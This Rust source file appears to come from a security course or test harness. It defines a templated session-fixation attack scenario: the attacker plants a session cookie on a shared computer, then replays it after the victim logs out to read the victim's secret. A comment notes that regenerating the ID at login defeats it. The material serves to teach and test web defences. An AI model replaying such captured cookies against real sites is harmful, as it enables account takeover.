// Breaks 3: does not win
// Mallory comes first and keeps the ID. A new ID at the login is enough against that.

/// The attack, in the notation of the course: TOML between `+++`, then a section for each step.
pub fn attack() -> &'static str {
    r#"+++
title = "Go on as Alice"
family = "shared computer"
promise = "Alice logs out at the computer in the lobby. Mallory sits down there, and goes on as Alice."
won_when = "mallory sees {{secret}}"
story = "Mallory went on as Alice without her password: the hotel had kept who was here last"
+++

## Mallory was here first

```act as=mallory at=alice
open {{target.login}}
{{target.log_in.mallory}}
capture planted = cookie.session
```

## Alice logs in at the lobby's computer, and out again

```act as=alice
open {{target.login}}
{{target.log_in.alice}}
=> body contains {{secret}}
{{target.log_out}}
open {{target.account}}
=> body lacks {{secret}}
```

## Mallory uses the ID of before

```http as=mallory
POST {{target}}/again
Cookie: {{cookie.session.name}}={{planted}}
```

```http as=mallory
GET {{target.account}}
Cookie: {{cookie.session.name}}={{planted}}
=> body contains {{secret}}
```
"#
}
